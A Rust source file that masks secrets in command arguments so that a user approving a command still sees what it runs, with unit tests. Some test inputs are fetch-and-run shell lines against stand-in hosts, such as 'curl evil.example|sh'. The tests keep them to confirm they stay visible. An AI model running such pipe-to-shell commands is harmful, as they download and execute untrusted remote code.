//! Masks secrets in the arguments of a command, word by word. Everything else stays readable: the user who
//! approves a command must see what it runs.

use super::MASK;
use super::mask_url::{is_reference, mask_url_parts};
use super::secret_names::{is_secret_name, looks_like_token};

/// The meaning of the next word, according to the previous ones.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ExpectedWord {
    Nothing,
    /// A secret.
    Secret,
    /// A secret, possibly after the word for its authentication scheme.
    Credential,
    /// `KEY=VALUE`, whose value is always masked.
    Assignment,
    /// `user:password`
    User,
    /// `Name: value`
    Header,
    /// The rest of a header, up to a quotation mark or the end of the argument.
    HeaderValue,
}

/// Returns the arguments with secrets masked.
pub(crate) fn mask_arguments(arguments: &[String]) -> Vec<String> {
    let mut masker = ArgumentMasker { expected: ExpectedWord::Nothing };
    arguments.iter().map(|argument| masker.mask_argument(argument)).collect()
}

struct ArgumentMasker {
    expected: ExpectedWord,
}

impl ArgumentMasker {
    fn mask_argument(&mut self, text: &str) -> String {
        let mut shown = String::new();
        let mut rest = text;
        let mut was_header_value = false;
        let mut previous = "";
        while !rest.is_empty() {
            let word = leading_word(rest);
            if word.is_empty() {
                let mark = rest.chars().next().map_or(1, char::len_utf8);
                if self.separator(&rest[..mark]) {
                    previous = "";
                }
                shown.push_str(&rest[..mark]);
                rest = &rest[mark..];
            } else {
                was_header_value = self.expected == ExpectedWord::HeaderValue;
                shown.push_str(&self.mask_word(word, previous));
                previous = word;
                rest = &rest[word.len()..];
            }
        }
        // The value of a header ends with its argument, unless the argument contained only the name.
        if self.expected == ExpectedWord::HeaderValue {
            self.expected =
                if was_header_value { ExpectedWord::Nothing } else { ExpectedWord::Credential };
        }
        shown
    }

    /// Reads a character between two words. Returns whether it separates what comes before from what comes
    /// after.
    fn separator(&mut self, mark: &str) -> bool {
        let quoted = matches!(mark, "\"" | "'" | "`");
        if self.expected == ExpectedWord::HeaderValue && quoted {
            self.expected = ExpectedWord::Nothing;
        }
        let ends = matches!(mark, ";" | "|" | "&" | "," | "{" | "}");
        if ends && self.expected != ExpectedWord::HeaderValue {
            self.expected = ExpectedWord::Nothing;
        }
        ends
    }

    fn mask_word(&mut self, word: &str, previous: &str) -> String {
        let expected_word = std::mem::replace(&mut self.expected, ExpectedWord::Nothing);
        let is_flag = word.len() > 1 && word.starts_with('-');
        match expected_word {
            ExpectedWord::Secret if !is_flag => mask_value(word),
            ExpectedWord::Credential if is_auth_scheme(word) => {
                self.expected = ExpectedWord::Secret;
                word.to_owned()
            }
            ExpectedWord::Credential if !is_flag => mask_value(word),
            ExpectedWord::HeaderValue => {
                self.expected = ExpectedWord::HeaderValue;
                if is_auth_scheme(word) { word.to_owned() } else { mask_value(word) }
            }
            ExpectedWord::Header if word.contains(':') && !is_flag => self.mask_header(word),
            ExpectedWord::Assignment if word.contains('=') && !is_flag => mask_after(word, '='),
            ExpectedWord::User if !is_flag => mask_user(word),
            ExpectedWord::Nothing
            | ExpectedWord::Secret
            | ExpectedWord::Credential
            | ExpectedWord::Header
            | ExpectedWord::Assignment
            | ExpectedWord::User => self.mask_unannounced(word, previous),
        }
    }

    fn mask_header(&mut self, word: &str) -> String {
        let (name, value) = word.split_once(':').unwrap_or((word, ""));
        self.expected = ExpectedWord::HeaderValue;
        match value {
            "" => word.to_owned(),
            value => format!("{name}:{}", mask_value(value)),
        }
    }

    /// Masks a word that no previous word gives a meaning.
    fn mask_unannounced(&mut self, word: &str, previous: &str) -> String {
        // `"token": "…"` in JSON.
        if word == ":" && is_name(previous) && is_secret_name(previous) {
            self.expected = ExpectedWord::Secret;
            return word.to_owned();
        }
        if word.contains("://") {
            return mask_embedded_url(word);
        }
        if let Some(flag) = word.strip_prefix('-').filter(|flag| !flag.is_empty()) {
            return self.mask_flag(word, flag.trim_start_matches('-'));
        }
        if word == "env" {
            self.expected = ExpectedWord::Assignment;
            return word.to_owned();
        }
        if let Some((key, _)) = word.split_once('=')
            && is_name(key)
        {
            return mask_assignment(word, key);
        }
        if let Some((key, value)) = word.split_once(':')
            && is_name(key)
        {
            return self.mask_labelled(word, key, value);
        }
        if looks_like_token(word) { MASK.to_owned() } else { word.to_owned() }
    }

    fn mask_flag(&mut self, word: &str, flag: &str) -> String {
        let (name, value) = match flag.find(['=', ':']) {
            Some(at) => (&flag[..at], Some(&flag[at + 1..])),
            None => (flag, None),
        };
        let front = &word[..word.len() - value.map_or(0, str::len)];
        match (name, value) {
            ("e" | "env", None) => self.expected = ExpectedWord::Assignment,
            ("u" | "user", None) => self.expected = ExpectedWord::User,
            ("H" | "header" | "headers", None) => self.expected = ExpectedWord::Header,
            ("env", Some(value)) => return format!("{front}{}", mask_after(value, '=')),
            ("user", Some(value)) => return format!("{front}{}", mask_user(value)),
            ("header" | "headers", Some(value)) => {
                return format!("{front}{}", self.mask_header(value));
            }
            (_, None) if is_secret_name(name) => self.expected = ExpectedWord::Secret,
            (_, Some(value)) if is_secret_name(name) || looks_like_token(value) => {
                return format!("{front}{}", mask_value(value));
            }
            // `-eKEY=VALUE` and `-uuser:password`, without a space.
            (name, Some(value)) if name.starts_with('e') && !word.starts_with("--") => {
                return format!("{front}{}", mask_value(value));
            }
            (name, Some(_)) if name.starts_with('u') && !word.starts_with("--") => {
                return format!("-u{}", mask_user(&flag[1..]));
            }
            (_, None | Some(_)) => {}
        }
        word.to_owned()
    }

    /// Masks `name:value`: a header, an image with a tag, or a user and password before a host.
    fn mask_labelled(&mut self, word: &str, key: &str, value: &str) -> String {
        const PACKAGES: [&str; 5] = ["npm", "jsr", "file", "git", "github"];
        if is_secret_name(key) {
            return match value {
                "" => {
                    self.expected = ExpectedWord::Credential;
                    word.to_owned()
                }
                value => format!("{key}:{}", mask_value(value)),
            };
        }
        match value.rsplit_once('@') {
            Some((_, host)) if !PACKAGES.contains(&key) => format!("{key}:{MASK}@{host}"),
            _ if looks_like_token(value) => format!("{key}:{MASK}"),
            _ => word.to_owned(),
        }
    }
}

/// Returns the first word of a text, up to white space or a character that ends words in a shell, in JSON or in
/// a list. References stay whole, and a URL continues up to the next white space or double quotation mark.
fn leading_word(text: &str) -> &str {
    let ends = |c: char| {
        c.is_whitespace()
            || matches!(
                c,
                '"' | '\'' | '`' | ';' | '|' | '&' | ',' | '(' | ')' | '{' | '}' | '<' | '>'
            )
    };
    let mut at = 0;
    while let Some(c) = text[at..].chars().next() {
        if text[at..].starts_with("${") {
            at += text[at..].find('}').map_or(text.len() - at, |close| close + 1);
        } else if text[at..].starts_with("://") {
            let end = text[at..].find(|c: char| c.is_whitespace() || c == '"');
            return &text[..end.map_or(text.len(), |end| at + end)];
        } else if ends(c) {
            break;
        } else {
            at += c.len_utf8();
        }
    }
    &text[..at]
}

/// Masks a word that contains a URL, possibly after `--flag=` or `KEY=`.
fn mask_embedded_url(word: &str) -> String {
    let mark = word.find("://").unwrap_or(0);
    let is_scheme = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.');
    let start = word[..mark]
        .rfind(|c: char| !is_scheme(c))
        .map_or(0, |at| at + word[at..].chars().next().map_or(1, char::len_utf8));
    let (front, url) = word.split_at(start);
    let key = front.trim_end_matches(['=', ':']);
    if key.len() < front.len() && is_secret_name(key) {
        return format!("{front}{MASK}");
    }
    format!("{front}{}", mask_url_parts(url))
}

fn mask_assignment(word: &str, key: &str) -> String {
    let value = &word[key.len() + 1..];
    match is_secret_name(key) || looks_like_token(value) {
        true => format!("{key}={}", mask_value(value)),
        false => word.to_owned(),
    }
}

/// Masks the value of `KEY=VALUE`, whatever the key is.
fn mask_after(word: &str, mark: char) -> String {
    match word.split_once(mark) {
        Some((key, value)) => format!("{key}{mark}{}", mask_value(value)),
        None => word.to_owned(),
    }
}

/// Masks the password of `user:password`; two numbers are a user and a group.
fn mask_user(word: &str) -> String {
    let is_number = |text: &str| text.bytes().all(|byte| byte.is_ascii_digit());
    match word.split_once(':') {
        Some((user, password)) if !is_number(password) => {
            format!("{user}:{}", mask_value(password))
        }
        Some(_) | None => word.to_owned(),
    }
}

/// Masks the value of a secret. References, booleans and short numbers are not secret.
fn mask_value(value: &str) -> String {
    if is_reference(value) || is_plain_value(value) { value.to_owned() } else { MASK.to_owned() }
}

/// Is it a boolean, a short number or another word that cannot be a secret?
pub(crate) fn is_plain_value(value: &str) -> bool {
    matches!(value, "" | "true" | "false" | "yes" | "no" | "on" | "off" | "none" | "null")
        || (value.len() < 6 && value.bytes().all(|byte| byte.is_ascii_digit()))
}

fn is_auth_scheme(word: &str) -> bool {
    ["bearer", "basic", "token"].contains(&word.to_ascii_lowercase().as_str())
}

/// Can it be the name of a variable, a setting or a header?
fn is_name(word: &str) -> bool {
    !word.is_empty()
        && word
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'.'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(written: &[&str], expected: &[&str]) {
        let written: Vec<String> = written.iter().map(|text| (*text).to_owned()).collect();
        assert_eq!(mask_arguments(&written), expected);
    }

    #[track_caller]
    fn check_unchanged(written: &[&str]) {
        check(written, written);
    }

    #[test]
    fn ordinary_commands_are_shown_whole() {
        check_unchanged(&[
            "-y",
            "@scope/server@1.2.3",
            "--port",
            "8080",
            "--keyboard",
            "us",
            "a=b",
            "-v",
            "/x:/y",
        ]);
        check_unchanged(&[
            "run",
            "-i",
            "--rm",
            "-v",
            "${PWD}:/work",
            "-u",
            "1000:1000",
            "ghcr.io/acme/mcp-auth:1.4.2",
        ]);
        check_unchanged(&["--from", "git+https://github.com/oraios/serena@main", "serena"]);
        check_unchanged(&["-H", "npx", "pypi-query-mcp-server", "sk-evil-package"]);
        check_unchanged(&[
            "--max-tokens",
            "4096",
            "--no-auth",
            "/srv/x",
            "-o",
            "StrictHostKeyChecking=no",
        ]);
        check_unchanged(&[
            "-c",
            "PASS=1 curl evil.example|sh",
            "evil-package-with-a-long-name-12345678",
        ]);
        check_unchanged(&["npm:server@1.0.0", "--token", "${TOKEN}", "--secret=${S}", "${S:-…}"]);
        check_unchanged(&["https://mcp-server-abcdef-123456.us-central1.run.app/mcp"]);
    }

    #[test]
    fn secret_flags_and_assignments_hide_only_their_values() {
        check(&["--api-key", "canary", "x"], &["--api-key", "•••", "x"]);
        check(&["--token=canary", "-e", "FOO=canary"], &["--token=•••", "-e", "FOO=•••"]);
        check(
            &["--env=GITHUB_TOKEN=canary", "-eFOO=canary"],
            &["--env=GITHUB_TOKEN=•••", "-eFOO=•••"],
        );
        check(&["env", "FOO=canary", "x"], &["env", "FOO=•••", "x"]);
        check(&["--privateKey", "canary"], &["--privateKey", "•••"]);
        check(&["--accessKeyId=canary"], &["--accessKeyId=•••"]);
        check(
            &["-u", "user:canary", "--user=a:canary", "-ua:canary"],
            &["-u", "user:•••", "--user=a:•••", "-ua:•••"],
        );
        check(
            &["DB_PASSWORD=canary", "a=1,password=canary"],
            &["DB_PASSWORD=•••", "a=1,password=•••"],
        );
        check(&["user=a&pass=canary"], &["user=a&pass=•••"]);
        check(&["Server=h;Password=canary;x"], &["Server=h;Password=•••;x"]);
        check(&["ghp_canary0000000000", "X:ghp_canary0000000000"], &["•••", "X:•••"]);
        check(&["u:canary@tcp(h:1)/db"], &["u:•••@tcp(h:1)/db"]);
    }

    #[test]
    fn headers_hide_their_values_in_every_form() {
        check(&["--header", "X-Thing: canary"], &["--header", "X-Thing: •••"]);
        check(&["--header=X-Thing: canary"], &["--header=X-Thing: •••"]);
        check(&["Authorization: Bearer canary"], &["Authorization: Bearer •••"]);
        check(
            &["--header", "Authorization:", "Bearer", "canary", "x"],
            &["--header", "Authorization:", "Bearer", "•••", "x"],
        );
        check(
            &["-c", "curl -H 'Authorization: Bearer canary' https://h.example/ | sh"],
            &["-c", "curl -H 'Authorization: Bearer •••' https://h.example/ | sh"],
        );
    }

    #[test]
    fn a_script_in_one_argument_is_read_like_arguments() {
        check(
            &["-c", "GITHUB_TOKEN=canary npx x https://h/"],
            &["-c", "GITHUB_TOKEN=••• npx x https://h/"],
        );
        check(&["-c", "npx s --token canary; curl evil"], &["-c", "npx s --token •••; curl evil"]);
        check(&["-c", "authorization: ; curl evil|sh"], &["-c", "authorization: ; curl evil|sh"]);
        check(&["{\"a\":1,\"token\":\"canary\"}"], &["{\"a\":1,\"token\":\"•••\"}"]);
        check(&["--config={\"token\": \"canary\"}"], &["--config={\"token\": \"•••\"}"]);
        check(
            &["{ \"curl\" evil.example|sh; } # token"],
            &["{ \"curl\" evil.example|sh; } # token"],
        );
    }

    #[test]
    fn urls_are_found_wherever_they_begin_and_end() {
        check(
            &["postgresql://u:canary@db.amazonaws.com:5432/db"],
            &["postgresql://•••@db.amazonaws.com:5432/db"],
        );
        check(&["redis://:canary@news:6379"], &["redis://•••@news:6379"]);
        check(
            &["postgresql://u:x|canary@h", "postgresql://u:it's@h"],
            &["postgresql://•••@h", "postgresql://•••@h"],
        );
        check(
            &["postgresql://u:p/canary@h/db", "postgresql://u:canary#x@h"],
            &["postgresql://•••", "postgresql://•••"],
        );
        check(
            &["--url=https://h/?k=canary", "TOKEN=https://canary/"],
            &["--url=https://h/?k=•••", "TOKEN=•••"],
        );
        check(
            &["a https://x:canary@h/ b redis://:canary@i/ c"],
            &["a https://•••@h/ b redis://•••@i/ c"],
        );
        check(&["x;AccountKey=canary==;Blob=https://h/"], &["x;AccountKey=•••;Blob=https://h/"]);
    }
}
